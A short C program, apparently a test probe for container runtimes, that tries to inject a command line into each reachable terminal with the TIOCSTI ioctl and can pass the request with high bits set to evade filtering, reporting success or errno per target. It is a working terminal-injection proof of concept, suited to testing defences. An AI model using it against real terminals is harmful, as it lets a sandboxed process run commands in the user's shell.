/*
 * A hostile image's terminal probe: it tries to type a line into every
 * terminal it holds (fds 0, 1, 2 and /dev/tty) with TIOCSTI, which pushes
 * bytes into a terminal's input queue as if they had been typed there
 * (CVE-2017-5226). With `high` it passes the request with its upper 32 bits
 * set: the kernel reads the request as 32 bits, so it is still TIOCSTI
 * (CVE-2019-10063). Prints, per target, "typed" or the errno it got.
 *
 * Usage: tiocsti [high] [TEXT]
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *name_of(int err)
{
	switch (err) {
	case EPERM: return "EPERM";
	case EIO: return "EIO";
	case ENOTTY: return "ENOTTY";
	case ENXIO: return "ENXIO";
	default: return strerror(err);
	}
}

static void try_type(const char *what, int fd, unsigned long request, const char *text)
{
	if (!isatty(fd)) {
		printf("%s: not a terminal\n", what);
		return;
	}
	for (const char *c = text; *c; c++)
		if (syscall(SYS_ioctl, fd, request, c) < 0) {
			printf("%s: %s\n", what, name_of(errno));
			return;
		}
	printf("%s: typed\n", what);
}

int main(int argc, char **argv)
{
	int arg = 1;
	unsigned long request = TIOCSTI;
	if (arg < argc && strcmp(argv[arg], "high") == 0) {
		request |= 1UL << 32;
		arg++;
	}
	const char *text = arg < argc ? argv[arg] : "echo INJECTED\n";
	char name[8];
	for (int fd = 0; fd < 3; fd++) {
		snprintf(name, sizeof name, "fd%d", fd);
		try_type(name, fd, request, text);
	}
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (tty < 0)
		printf("/dev/tty: %s\n", name_of(errno));
	else
		try_type("/dev/tty", tty, request, text);
	fflush(stdout);
	return 0;
}
